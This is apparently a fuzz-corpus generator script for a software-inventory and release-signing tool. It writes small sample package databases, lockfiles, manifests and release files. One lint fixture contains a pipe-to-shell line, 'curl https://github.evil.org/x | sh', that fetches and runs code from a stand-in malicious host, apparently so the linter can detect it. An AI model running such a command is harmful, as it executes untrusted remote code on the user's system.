/** `node tools/fuzz/make-release-corpus.ts`: the first inputs of the targets for inventories, pins, findings, locks, kits and releases. */
import { utf8 } from '@assay/core';
import { encodeInventory } from '@assay/sbom';
import { elf, goBuildInfo, machO, pe } from '../../packages/sbom/src/make/executable/test/executables.ts';
import { manifest, zip } from '../../packages/sbom/src/make/language/test/zips.ts';
import { bash, berkeleyDatabase, ndbDatabase, sqliteDatabase } from '../../packages/sbom/src/make/system/test/rpm-databases.ts';
import { SAMPLE } from '../../packages/sbom/test/inventories.ts';
import { write } from './corpus.ts';

const HEX = 'ab'.repeat(32);
const json = (value: unknown): Uint8Array => utf8(JSON.stringify(value));

write(
  'dpkg-status',
  'two',
  utf8(
    'Package: a\nStatus: install ok installed\nVersion: 1.0-1\nArchitecture: amd64\nDepends: b (>= 1) | c\n\nPackage: b\nStatus: install ok installed\nVersion: 2\nDescription: x\n more\n',
  ),
);
write(
  'dpkg-copyright',
  'dep5',
  utf8('Format: https://www.debian.org/doc/packaging-manuals/copyright-format/1.0/\n\nFiles: *\nCopyright: x\nLicense: GPL-2+\n'),
);
write(
  'apk-installed',
  'two',
  utf8('C:Q1aW4gbm8gd2F5IGFueSBoYXNo\nP:musl\nV:1.2.5-r0\nA:x86_64\nL:MIT\np:so:libc.musl-x86_64.so.1=1\n\nP:a\nV:1-r0\nD:so:libc.musl-x86_64.so.1 !b\n'),
);
write('rpm-sqlite', 'one', sqliteDatabase([bash()], { pageSize: 512 }));
write('rpm-ndb', 'one', ndbDatabase([bash()]));
write('rpm-berkeley', 'little', berkeleyDatabase([bash()]));
write('rpm-berkeley', 'big', berkeleyDatabase([bash()], { endian: 'BE' }));
const info = [
  { name: '.go.buildinfo', content: goBuildInfo('go1.26.0', ['path\texample.com/a', 'mod\texample.com/a\t(devel)\t', 'dep\texample.com/b\tv1.2.3\th1:x']) },
];
write('executable', 'elf', elf(info));
write('executable', 'mach-o', machO(info));
write('executable', 'pe', pe(info));
write(
  'jar',
  'nested',
  zip({
    'META-INF/MANIFEST.MF': manifest({ 'Implementation-Version': '1.0' }),
    'META-INF/maven/g/a/pom.properties': 'groupId=g\nartifactId=a\nversion=1\n',
    'lib/b.jar': zip({ 'META-INF/MANIFEST.MF': manifest() }),
  }),
);
write(
  'pom',
  'one',
  utf8(
    `<project><groupId>g</groupId><artifactId>a</artifactId><version>\${v}</version><properties><v>1</v></properties><dependencies><dependency><groupId>g</groupId><artifactId>b</artifactId><version>2</version></dependency></dependencies></project>`,
  ),
);
write('npm-package', 'one', json({ name: '@s/a', version: '1.0.0', license: 'MIT', dependencies: { b: '^1' } }));
write(
  'npm-lock',
  'three',
  json({ lockfileVersion: 3, packages: { '': { name: 'x' }, 'node_modules/a': { version: '1.0.0', integrity: 'sha512-AAAA', dependencies: { b: '1' } } } }),
);
write('yarn-lock', 'one', utf8('# yarn lockfile v1\n\n"@s/a@^1.0.0":\n  version "1.0.0"\n  resolved "x"\n  dependencies:\n    b "^1"\n'));
write('yarn-lock', 'berry', utf8('__metadata:\n  version: 8\n\n"a@npm:^1.0.0":\n  version: 1.0.0\n  resolution: "a@npm:1.0.0"\n'));
write('pnpm-lock', 'nine', utf8("lockfileVersion: '9.0'\npackages:\n  a@1.0.0:\n    resolution: {integrity: sha512-AAAA}\nsnapshots:\n  a@1.0.0: {}\n"));
write('python-metadata', 'one', utf8('Metadata-Version: 2.4\nName: A_b\nVersion: 1.0\nLicense-Expression: MIT\nRequires-Dist: c>=1; extra == "x"\n\ntext\n'));
write('poetry-lock', 'one', utf8('[[package]]\nname = "a"\nversion = "1.0"\n\n[package.dependencies]\nb = "*"\n'));
write('requirements', 'two', utf8('a==1.0 --hash=sha256:00\nb[c]==2 ; python_version < "4"\n-r other.txt\n'));
write(
  'cargo-lock',
  'four',
  utf8(
    `version = 4\n\n[[package]]\nname = "a"\nversion = "1.0.0"\nsource = "registry+https://github.com/rust-lang/crates.io-index"\nchecksum = "${HEX}"\ndependencies = ["b 1.0.0"]\n`,
  ),
);
write('go-mod', 'one', utf8('module example.com/a\n\ngo 1.26\n\nrequire (\n\texample.com/b v1.2.3 // indirect\n)\nreplace example.com/b => ./b\n'));
write('workflow', 'one', utf8('on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - uses: actions/checkout@v4\n'));
for (const format of ['cyclonedx-json', 'spdx-json'] as const) write('sbom', format, encodeInventory(SAMPLE, format));
write(
  'pin-yaml',
  'pod',
  utf8('# a\nkind: Pod\napiVersion: v1\nspec:\n  containers:\n    - { name: a, image: "nginx:1" } # b\n---\nimage:\n  repository: a/b\n  tag: "1"\n'),
);
write('pin-yaml', 'kustomization', utf8('kind: Kustomization\nimages:\n  - name: a\n    newTag: "1"\n'));
write('pin-yaml', 'compose', utf8('services:\r\n  a:\r\n    image: &i a:1\r\n  b:\r\n    image: *i\r\n'));
write('pin-dockerfile', 'stages', utf8('# syntax=docker/dockerfile:1\nARG V=1\nFROM --platform=x a:1 AS b\nFROM b\nCOPY --from=c:2 \\\n  /x /y\n'));
write(
  'lint',
  'page',
  utf8(
    "# A\n\n```sh\ncosign verify --certificate-identity-regexp 'https://github.com/a/.*' \\\n  ghcr.io/a/b:1 | jq\n```\n\n    curl https://github.evil.org/x | sh\n",
  ),
);
write('lint', 'workflow', utf8('on: push\njobs:\n  a:\n    steps:\n      - uses: a/b@v1\n      - run: |\n          cosign sign "$IMAGE:1" || true\n'));
write(
  'lock',
  'one',
  json({
    version: 1,
    artifacts: { 'ghcr.io/a/b': { issuer: 'https://i', identity: 'https://github.com/a/b/.github/workflows/r.yml@refs/tags/*', evidence: 'recorded' } },
  }),
);
write(
  'kit-manifest',
  'hand',
  json({ mediaType: 'application/vnd.assay.kit.v1+json', madeAt: '2026-01-01T00:00:00Z', madeBy: 'assay 0.1.0', things: [], entries: [] }),
);
write(
  'release',
  'hand',
  json({
    mediaType: 'application/vnd.assay.release.v1+json',
    name: 'a',
    version: '1',
    inputs: HEX,
    checksums: { name: 'checksums.txt', sha256: HEX, signature: 'checksums.txt.sigstore.json' },
    files: [{ name: 'a', sha256: HEX, size: 1, signature: 'a.sigstore.json', sboms: [] }],
    images: [],
    charts: [],
  }),
);
write(
  'release-config',
  'hand',
  utf8('name: a\nversion: 1.0\nfiles: [a, b/*]\nimages: [{ from: x, to: y/z, tags: [latest] }]\ncharts: [{ from: c, to: oci://y/z, images: { image: z } }]\n'),
);
write('checksums', 'hand', utf8(`${HEX}  a\n${HEX} *b\r\nSHA256 (c) = ${HEX}\n\\${HEX}  d\\ne\n`));
